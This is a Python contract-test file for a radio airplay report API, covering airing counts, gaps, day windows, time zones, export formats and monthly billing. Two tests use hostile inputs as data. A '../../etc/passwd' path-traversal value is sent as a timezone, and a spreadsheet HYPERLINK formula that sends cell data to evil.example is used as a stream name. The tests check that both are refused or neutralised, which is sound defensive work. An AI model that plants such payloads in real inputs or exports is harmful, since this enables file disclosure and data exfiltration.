"""Section G of the contract, the airplay report: airings, gaps, days, formats, and the months that are billed."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from datetime import UTC, date, datetime, timedelta

import polars as pl
import pytest
from sqlalchemy import func, select

from account_store.clock import format_month
from account_store.streams import gaps
from account_store.streams.stream_tables import airplay_day, stream
from catalog_api.airplay.report_formats import CSV, PARQUET
from tests.conftest import run_module
from tests.contract.awkward import MERGED, RETIRED, isrc
from tests.contract.conftest import Api, problem
from tests.contract.stream_callers import NOON, REPORT, STREAMS, account_of, air, ask_report, began, days, heard, new_stream, with_card


def test_g6_an_airing_is_one_row_however_often_it_was_detected_and_a_repeat_another(radio: Api) -> None:
    stream_id = new_stream(radio)
    air(radio, stream_id, 1, NOON)
    air(radio, stream_id, 1, NOON)
    air(radio, stream_id, 1, NOON + timedelta(seconds=230))
    assert len(radio.ask(f"{STREAMS}/{stream_id}/history")["results"]) == 2
    [reported] = radio.ask(REPORT, **days(NOON, NOON))["report"]["streams"]
    assert [row["play_count"] for row in reported["summary"]] == [2]
    assert len(reported["detail"]) == 2


def test_g6_gaps_are_listed_in_the_report(radio: Api) -> None:
    stream_id = new_stream(radio)
    with radio.accounts.engine.begin() as connection:
        gaps.open_gap(connection, stream_id, gaps.SOURCE, NOON, "HTTP 404")
        gaps.close_gap(connection, stream_id, NOON + timedelta(minutes=5))
    [reported] = radio.ask(REPORT, **days(NOON, NOON))["report"]["streams"]
    assert reported["gaps"] == [
        {"started_at": f"{NOON:%Y-%m-%d}T12:00:00Z", "ended_at": f"{NOON:%Y-%m-%d}T12:05:00Z", "cause": "source", "detail": "HTTP 404"}
    ]


def test_g7_the_report_has_a_summary_and_every_airing_of_every_stream(radio: Api) -> None:
    first, second = new_stream(radio, "Radio Amber"), new_stream(radio, 'Radio "B", 2')
    began(radio, first, NOON - timedelta(days=1))
    for minutes, recording_id in ((0, 1), (10, 2), (20, 1), (30, MERGED), (40, 6)):
        air(radio, first, recording_id, NOON + timedelta(minutes=minutes), 190)
    answer = ask_report(radio, **days(NOON, NOON))
    assert answer.headers["content-type"] == "application/json; charset=utf-8"
    report = answer.json()["report"]
    assert (report["from"], report["until"], report["scope"]) == (str(NOON.date()), str(NOON.date()), "account")
    assert [(one["id"], one["name"]) for one in report["streams"]] == [(first, "Radio Amber"), (second, 'Radio "B", 2')]
    reported = report["streams"][0]
    assert reported["summary"] == [
        {"track_id": 1, "isrc": isrc(1), "title": "Midnight Running", "artist": "The Velvet Foxes", "play_count": 3},
        {
            "track_id": 2,
            "isrc": isrc(2),
            "title": "Midnight Running (Daft Trunk Remix)",
            "artist": "The Velvet Foxes",
            "play_count": 1,
        },
        {"track_id": 6, "isrc": None, "title": "Harbour Lights", "artist": "Nova Kline", "play_count": 1},
    ]
    assert [row["isrc"] for row in reported["detail"]] == [isrc(1), isrc(2), isrc(1), isrc(1), None]
    assert reported["detail"][0]["played_at"] == f"{NOON:%Y-%m-%d}T12:00:00Z"
    assert {row["duration_seconds"] for row in reported["detail"]} == {190}
    assert report["streams"][1]["summary"] == report["streams"][1]["detail"] == []
    assert not {"iswc", "genre"} & {name for row in (*reported["summary"], *reported["detail"]) for name in row}


def test_g7_days_are_whole_and_the_last_is_included(radio: Api) -> None:
    stream_id = new_stream(radio)
    midnight = NOON.replace(hour=0) - timedelta(days=40)
    began(radio, stream_id, midnight - timedelta(days=2))
    moments = [
        midnight - timedelta(seconds=1),
        midnight,
        midnight + timedelta(hours=23, minutes=59, seconds=59),
        midnight + timedelta(days=1),
    ]
    for number, moment in enumerate(moments):
        air(radio, stream_id, 1 + number, moment, 5)
    for _ in range(2):
        [reported] = radio.ask(REPORT, **days(midnight, midnight))["report"]["streams"]
        assert [row["played_at"] for row in reported["detail"]] == [moment.strftime("%Y-%m-%dT%H:%M:%SZ") for moment in moments[1:3]]
        radio.accounts.airplay.settle()
    with radio.accounts.engine.connect() as connection:
        packed = select(func.count()).select_from(airplay_day).where(airplay_day.c.stream_id == stream_id)
        assert connection.scalar(packed) > 1, "the second time it was read from the packed day"
    [reported] = radio.ask(REPORT, **days(midnight - timedelta(days=1), midnight + timedelta(days=1)))["report"]["streams"]
    assert len(reported["detail"]) == 4


@pytest.mark.parametrize(
    ("query", "names"),
    [
        ({}, ["from", "until"]),
        ({"from": "2026-11-01"}, ["until"]),
        ({"from": "2026-11-02", "until": "2026-11-01"}, ["from"]),
        ({"from": "2026-08-01", "until": "2026-11-01"}, ["from", "until"]),
        ({"from": "2026-13-01", "until": "2026-02-30"}, ["from", "until"]),
        ({"from": "2026-11-01T00:00:00Z", "until": "20261101"}, ["from", "until"]),
        ({"from": "0001-01-01", "until": "9999-12-31"}, ["from", "until"]),
        ({"from": "2026-11-01", "until": "2026-11-01", "timezone": "Mars/Olympus"}, ["timezone"]),
        ({"from": "2026-11-01", "until": "2026-11-01", "timezone": "../../etc/passwd"}, ["timezone"]),
    ],
)
def test_g7_a_window_that_cannot_be_meant_is_400(api: Api, query: dict[str, str], names: list[str]) -> None:
    assert api.refused(REPORT, **query) == (400, "invalid_parameter", names)


def test_g7_92_days_pass_and_93_do_not(api: Api) -> None:
    first = date(2026, 8, 1)
    assert api.get(REPORT, **{"from": str(first), "until": str(first + timedelta(days=91))}).status_code == 200
    assert api.refused(REPORT, **{"from": str(first), "until": str(first + timedelta(days=92))})[0] == 400


def test_g7_days_of_another_time_zone_begin_at_its_midnights(radio: Api) -> None:
    stream_id = new_stream(radio)
    began(radio, stream_id, datetime(2026, 10, 1, tzinfo=UTC))
    # The clocks of Berlin go back on 25 October 2026: its day begins at 22:00 and ends at 23:00, UTC.
    for number, moment in enumerate(("2026-10-24T21:59:59", "2026-10-24T22:00:00", "2026-10-25T22:59:59", "2026-10-25T23:00:00")):
        air(radio, stream_id, 1 + number, datetime.fromisoformat(moment).replace(tzinfo=UTC), 5)
    report = radio.ask(REPORT, **{"from": "2026-10-25", "until": "2026-10-25", "timezone": "Europe/Berlin"})["report"]
    assert report["timezone"] == "Europe/Berlin"
    assert [row["played_at"] for row in report["streams"][0]["detail"]] == ["2026-10-24T22:00:00Z", "2026-10-25T22:59:59Z"]


def test_g1_a_stream_that_was_never_heard_is_not_billed(radio: Api) -> None:
    silent, before, aired, running = (new_stream(radio) for _ in range(4))
    for stream_id in (silent, before, aired, running):
        began(radio, stream_id, NOON - timedelta(days=70))
    heard(radio, before, format_month(NOON - timedelta(days=65)))
    air(radio, aired, 1, NOON - timedelta(days=65))
    assert radio.ask("/v1/usage")["stream_months"] == 0, "heard months ago is not heard this month"
    heard(radio, running, format_month(datetime.now(UTC)))
    usage = radio.ask("/v1/usage")
    assert (usage["stream_months"], usage["stream_price_eur"]) == (1, 29)
    earlier = radio.accounts.usage.read_month_now(account_of(radio), format_month(NOON - timedelta(days=65)))
    assert earlier.stream_months == 2, "an airing was heard by somebody"


def test_g7_csv_parquet_and_json_have_the_same_rows(radio: Api) -> None:
    first, second = new_stream(radio, 'Radio "Amber", Köln'), new_stream(radio, "Radio B")
    new_stream(radio, "Silent")
    for stream_id in (first, second):
        began(radio, stream_id, NOON - timedelta(days=30))
    for number in range(60):
        moment = NOON - timedelta(days=number % 7, minutes=7 * number)
        air(radio, (first, second)[number % 2], (1, 2, 6, MERGED, RETIRED, 10, 12)[number % 7], moment, 10 + number)
    query = days(NOON - timedelta(days=29), NOON)
    as_json = radio.ask(REPORT, **query)["report"]
    names = {row["track_id"]: (row["title"], row["artist"]) for one in as_json["streams"] for row in one["summary"]}
    expected = [
        (one["id"], one["name"], row["track_id"], row["isrc"], *names[row["track_id"]], row["played_at"], row["duration_seconds"])
        for one in as_json["streams"]
        for row in one["detail"]
    ]
    assert len(expected) == 60
    for one in as_json["streams"]:
        assert Counter(row["track_id"] for row in one["detail"]) == {row["track_id"]: row["play_count"] for row in one["summary"]}
        assert [row["played_at"] for row in one["detail"]] == sorted(row["played_at"] for row in one["detail"])

    answer = ask_report(radio, CSV, **query)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert f'filename="airplay_{query["from"]}_{query["until"]}.csv"' in answer.headers["content-disposition"]
    heading, *lines = csv.reader(io.StringIO(answer.content.decode(), newline=""))
    assert heading == ["stream_id", "stream_name", "track_id", "isrc", "title", "artist", "played_at", "duration_seconds"]
    assert [tuple(line) for line in lines] == [tuple("" if value is None else str(value) for value in row) for row in expected]

    answer = ask_report(radio, PARQUET, **query)
    assert answer.headers["content-type"] == PARQUET
    frame = pl.read_parquet(io.BytesIO(answer.content))
    assert frame.columns == heading
    rows = frame.with_columns(pl.col("played_at").dt.strftime("%Y-%m-%dT%H:%M:%SZ")).rows()
    assert rows == expected


def test_g7_csv_holds_no_formula_and_json_and_parquet_are_exact(radio: Api) -> None:
    name = '=HYPERLINK("https://evil.example/?"&A1;"Radio");+1'
    stream_id = new_stream(radio, name)
    began(radio, stream_id, NOON - timedelta(days=2))
    air(radio, stream_id, 1, NOON, 30)
    query = days(NOON - timedelta(days=1), NOON)
    assert radio.ask(REPORT, **query)["report"]["streams"][0]["name"] == name
    assert pl.read_parquet(io.BytesIO(ask_report(radio, PARQUET, **query).content))["stream_name"].to_list() == [name]
    [_, line] = csv.reader(io.StringIO(ask_report(radio, CSV, **query).content.decode(), newline=""))
    assert line[1] == '\'=HYPERLINK("https://evil.example/?"&A1;"Radio");\'+1'
    assert line[-1] == "30", "numbers stay numbers"


@pytest.mark.parametrize(
    ("accept", "answered"),
    [
        ("*/*", "application/json"),
        ("text/csv", "text/csv"),
        ("text/*", "text/csv"),
        ("application/json;q=0.5, text/csv", "text/csv"),
        ("text/csv;q=0, */*;q=0.1", "application/json"),
        ("application/vnd.apache.parquet, */*;q=0.1", PARQUET),
        ("text/html, image/png", None),
    ],
)
def test_g7_the_form_is_that_of_the_accept_header(api: Api, accept: str, answered: str | None) -> None:
    answer = ask_report(api, accept, **days(NOON, NOON))
    if answered is None:
        assert problem(answer) == (406, "not_acceptable", [])
    else:
        assert answer.headers["content-type"].partition(";")[0] == answered
        assert answer.headers["cache-control"] == "no-store"


def test_g7_the_report_is_the_accounts_own(server: Api, radio: Api) -> None:
    air(radio, new_stream(radio), 1, NOON)
    assert with_card(server).ask(REPORT, **days(NOON, NOON))["report"]["streams"] == []


def test_g7_a_stream_is_paid_for_in_every_month_that_it_is_active_and_heard_in(radio: Api) -> None:
    usage = radio.ask("/v1/usage")
    assert (usage["stream_months"], usage["stream_month_price_eur"], usage["stream_price_eur"]) == (0, 29, 0)
    kept, stopped, earlier = (new_stream(radio) for _ in range(3))
    began(radio, kept, NOON - timedelta(days=70))
    now, then = format_month(datetime.now(UTC)), format_month(NOON - timedelta(days=69))
    for stream_id in (kept, stopped, earlier):
        heard(radio, stream_id, now, then)
    for stream_id in (stopped, earlier):
        radio.request("DELETE", f"{STREAMS}/{stream_id}")
    with radio.accounts.engine.begin() as connection:
        long_ago = {"created_at": NOON - timedelta(days=70), "stopped_at": NOON - timedelta(days=69)}
        connection.execute(stream.update().where(stream.c.stream_id == earlier).values(long_ago))
    usage = radio.ask("/v1/usage")
    assert (usage["stream_months"], usage["stream_price_eur"]) == (2, 58), "one that was stopped within the month counts, once"
    name = radio.accounts.get(account_of(radio)).name
    url = radio.accounts.engine.url.render_as_string(hide_password=False)
    month = format_month(NOON - timedelta(days=69))
    shown = run_module("account_store", "--accounts", url, "usage", name, "--month", month)
    assert re.search(r"stream_months +2\n", shown.stdout), shown.stdout
    assert re.search(r"stream_price_eur +58\.00\n", shown.stdout), shown.stdout
